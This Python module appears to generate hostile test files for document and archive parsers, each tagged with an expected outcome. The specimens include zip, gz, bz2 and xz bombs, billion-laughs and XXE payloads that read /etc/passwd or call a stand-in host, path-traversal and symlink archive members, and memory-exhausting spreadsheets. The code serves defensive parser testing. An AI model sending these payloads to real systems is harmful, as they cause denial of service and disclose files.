"""Zip, OOXML, ODF, tar, gz: bombs, members that reach out, entities, spreadsheets wider than memory."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
from collections.abc import Iterator
from functools import cache

from examples.hostile_maker.containers import WORD, compound, docx, word, worksheet, xlsx, zip_archive
from examples.hostile_maker.specimen import BROKEN, EMPTY, HOSTILE, LOST, OK, PACKED, Specimen

_XML = '<?xml version="1.0"?>'
_LAUGHS = "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(8))
LAUGHING = f'{_XML}<!DOCTYPE x [<!ENTITY a "hahahahahahahahahaha">{_LAUGHS}]>'
FETCHING = f'{_XML}<!DOCTYPE x [<!ENTITY i SYSTEM "file:///etc/passwd">]>'
CALLING = f'{_XML}<!DOCTYPE x SYSTEM "http://192.0.2.1/x.dtd" [<!ENTITY i SYSTEM "http://192.0.2.1/x">]>'
_MEGABYTE = bytes(1 << 20)
_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"


def _megabytes(count: int) -> Iterator[bytes]:
    return (_MEGABYTE for _ in range(count))


def _endless_paragraphs() -> Iterator[bytes]:
    yield f"{_XML}<w:document {WORD}><w:body>".encode()
    for _ in range(300):
        yield (b"<w:p><w:r><w:t>" + b"A" * 1000 + b"</w:t></w:r></w:p>") * 1000
    yield b"</w:body></w:document>"


@cache
def _bomb() -> bytes:
    return docx(_endless_paragraphs())


def _nested_tables() -> str:
    opened, closed = "<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"
    return word(
        f"</w:t></w:r></w:p>{opened * 100_000}<w:p><w:r><w:t>deep</w:t></w:r></w:p>{closed * 100_000}<w:p><w:r><w:t>"
    )


def _bombs_in_bombs() -> bytes:
    inner = zip_archive({"0.bin": _megabytes(100)})
    for level in range(5):
        inner = zip_archive({f"{level}-{number}.zip": inner for number in range(8)})
    return inner


def _dolls(depth: int) -> bytes:
    inner = zip_archive({"innermost.txt": "the innermost"})
    for level in range(depth):
        inner = zip_archive({f"{level}.zip": inner})
    return inner


def _overlapping() -> bytes:
    """One packed member that a thousand entries of the directory share (Fifield 2019, "A better zip bomb")."""
    data = bytearray(zip_archive({"a.txt": _megabytes(20)}))
    directory = data.rindex(b"PK\1\2")
    end = data.rindex(b"PK\5\6")
    entry, head = bytes(data[directory:end]), bytes(data[:directory])
    entries = b"".join(entry.replace(b"a.txt", b"%05d" % number) for number in range(1000))
    return head + entries + struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, 1000, 1000, len(entries), len(head), 0)


def _lying_about_its_size() -> bytes:
    data = _bomb()
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        true = archive.getinfo("word/document.xml").file_size
    return data.replace(struct.pack("<I", true), struct.pack("<I", 1000))


def _many_entries() -> bytes:
    return zip_archive({f"{number:05}": "" for number in range(10_000)})


def _links() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for name, kind, target in (
            ("passwd.txt", tarfile.SYMTYPE, "/etc/passwd"),
            ("out", tarfile.SYMTYPE, "/tmp"),  # noqa: S108 - a target that exists
            ("hard.txt", tarfile.LNKTYPE, "../../../etc/passwd"),
            ("device", tarfile.CHRTYPE, ""),
            ("pipe", tarfile.FIFOTYPE, ""),
        ):
            member = tarfile.TarInfo(name)
            member.type, member.linkname = kind, target
            archive.addfile(member)
        for name in ("out/escaped.txt", "../escaped.txt", "/escaped.txt", "good.txt"):
            member = tarfile.TarInfo(name)
            member.size = 7
            archive.addfile(member, io.BytesIO(b"escaped"))
    return out.getvalue()


def _reaching_out() -> bytes:
    names = (
        "../../escaped.txt",
        "/escaped.txt",
        "C:\\escaped.txt",
        "..\\..\\escaped.txt",
        "good.txt",
        "a\nb\x1b[2J.txt",
    )
    return zip_archive(dict.fromkeys(names, "escaped"))


def _corners() -> str:
    first, last = '<row r="1"><c r="A1"><v>1</v></c></row>', '<row r="1048576"><c r="XFD1048576"><v>2</v></c></row>'
    return worksheet(first + last)


def _one_string_often() -> bytes:
    """A string of 32 kB that 200,000 cells show: six gigabytes of text."""
    cells = "".join(f'<c r="A{row}" t="s"><v>0</v></c></row><row r="{row + 1}">' for row in range(1, 200_000))
    strings = (
        f'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>{"x" * 32_000}</t></si></sst>'
    )
    return xlsx(worksheet(f'<row r="1">{cells}</row>'), strings)


def _repeated_cells() -> bytes:
    """One OpenDocument cell that claims to fill a sheet of 16,384 by 1,048,576."""
    spaces = " ".join(
        f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"' for name in ("office", "table", "text")
    )
    again = 'office:value-type="string" table:number-columns-repeated="16384"'
    row = f"<table:table-cell {again}><text:p>again</text:p></table:table-cell>"
    rows = f'<table:table-row table:number-rows-repeated="1048576">{row}</table:table-row>'
    sheet = f'<office:spreadsheet><table:table table:name="S">{rows}</table:table></office:spreadsheet>'
    body = f"<office:document-content {spaces}><office:body>{sheet}</office:body></office:document-content>"
    manifest = '<m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>'
    kind = "application/vnd.oasis.opendocument.spreadsheet"
    return zip_archive({"mimetype": kind, "content.xml": body, "META-INF/manifest.xml": manifest})


def _old_corners() -> bytes:
    """BIFF8: cells in the first and the last place of every one of 40 sheets."""

    def record(kind: int, data: bytes) -> bytes:
        return struct.pack("<2H", kind, len(data)) + data

    end = record(0x0A, b"")
    cells = b"".join(record(0x203, struct.pack("<3Hd", row, column, 0, 1.0)) for row, column in ((0, 0), (65535, 255)))
    sheet = record(0x809, struct.pack("<4H2I", 0x600, 0x10, 0, 0, 0, 0)) + cells + end
    begin = record(0x809, struct.pack("<4H2I", 0x600, 5, 0, 0, 0, 0))
    length = len(begin) + 40 * (4 + 12) + len(end)
    bounds = (record(0x85, struct.pack("<I4B4s", length + n * len(sheet), 0, 0, 4, 0, b"S%03d" % n)) for n in range(40))
    return bytes(compound("Workbook", begin + b"".join(bounds) + end + sheet * 40))


def _linked_outside() -> bytes:
    target = '<Relationship Id="r9" Type="x/attachedTemplate" Target="http://192.0.2.1/t.dotm" TargetMode="External"/>'
    members = {
        "[Content_Types].xml": "<Types/>",
        "word/document.xml": word("The template is elsewhere."),
        "word/_rels/document.xml.rels": f'<Relationships xmlns="{_RELS}">{target}</Relationships>',
    }
    return zip_archive(members)


SPECIMENS = (
    Specimen("bomb.docx", HOSTILE, _bomb),
    Specimen("lies-about-its-size.docx", LOST | BROKEN, _lying_about_its_size),
    Specimen("nested-tables.docx", LOST | OK | BROKEN, lambda: docx(_nested_tables())),
    Specimen("billion-laughs.docx", HOSTILE, lambda: docx(word("&i;", LAUGHING))),
    Specimen("billion-laughs-utf16.docx", HOSTILE, lambda: docx(word("&i;", LAUGHING[21:]).encode("utf-16"))),
    Specimen("fetches-a-file.docx", HOSTILE, lambda: docx(word("&i;", FETCHING))),
    Specimen("calls-home.docx", HOSTILE, lambda: docx(word("&i;", CALLING))),
    Specimen("linked-outside.docx", OK, _linked_outside),
    Specimen("billion-laughs.xlsx", HOSTILE, lambda: xlsx(worksheet("", LAUGHING))),
    Specimen("opposite-corners.xlsx", HOSTILE, lambda: xlsx(_corners())),
    Specimen("one-string-often.xlsx", LOST, _one_string_often),
    Specimen("repeated-cells.ods", LOST | BROKEN, _repeated_cells),
    Specimen("opposite-corners.xls", LOST | OK | BROKEN, _old_corners),
    Specimen("bomb.zip", PACKED | LOST, lambda: zip_archive({"zeros.bin": _megabytes(256)})),
    Specimen("bombs-in-bombs.zip", PACKED | LOST, _bombs_in_bombs),
    Specimen("a-hundred-dolls.zip", PACKED | LOST, lambda: _dolls(100)),
    Specimen("overlapping.zip", PACKED | LOST | BROKEN, _overlapping),
    Specimen("ten-thousand-entries.zip", PACKED | LOST, _many_entries),
    Specimen("reaches-out.zip", PACKED | LOST, _reaching_out),
    Specimen("links.tar", PACKED | LOST, _links),
    Specimen("bomb.gz", PACKED | LOST, lambda: gzip.compress(bytes(1 << 28), compresslevel=1, mtime=0)),
    Specimen("bomb.bz2", PACKED | LOST | EMPTY, lambda: bz2.compress(bytes(1 << 26))),
    Specimen("bomb.xz", PACKED | LOST | EMPTY, lambda: lzma.compress(bytes(1 << 26), preset=0)),
)
